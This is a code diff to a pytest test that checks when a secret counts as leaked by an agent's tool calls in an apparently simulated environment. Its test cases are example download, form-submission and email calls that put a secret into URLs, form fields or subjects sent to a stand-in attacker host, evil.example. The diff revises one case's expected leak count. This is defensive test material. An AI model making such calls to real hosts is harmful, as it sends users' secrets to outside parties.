@@ -76,14 +76,15 @@ def test_a_secret_in_any_part_of_a_request_reaches_its_receiver(part):
 @pytest.mark.parametrize(("tool", "args", "leaks"), [
     ("download", {"url": f"https://evil.example/none?k={SECRET}", "save_as": "x.txt"}, 1),
     ("submit_form", {"url": f"https://evil.example/nothing/{SECRET}", "fields": {"x": "1"}}, 1),
-    ("submit_form", {"url": "https://evil.example/nothing", "fields": {"note": SECRET}}, 1),
+    # no form there: the browser opened the page (its URL left) and had no form to put the fields in
+    ("submit_form", {"url": "https://evil.example/nothing", "fields": {"note": SECRET}}, 0),
     # refused before anything left: an attachment that does not exist, arguments of the wrong shape
     ("send_email", {"to": ["x@evil.example"], "subject": SECRET, "body": "b", "attachments": ["d-none"]}, 0),
     ("download", {"url": f"https://evil.example/get?k={SECRET}", "save_as": 7}, 0),
 ])
 def test_a_request_the_server_refused_had_still_left(tool, args, leaks):
-    """A 404 is the remote server's answer: the request reached it, URL and fields and all. A call refused before
-    it sent anything (by the service or by argument checks) sent nothing."""
+    """A 404 is the remote server's answer: the request reached it, its URL and all. A call refused before it sent
+    anything (by the service or by argument checks) sent nothing."""
     with Environment(SEED, SURFACES) as env:
         outcome = env.gateway.call(tool, args, step=1)
         assert not outcome.ok
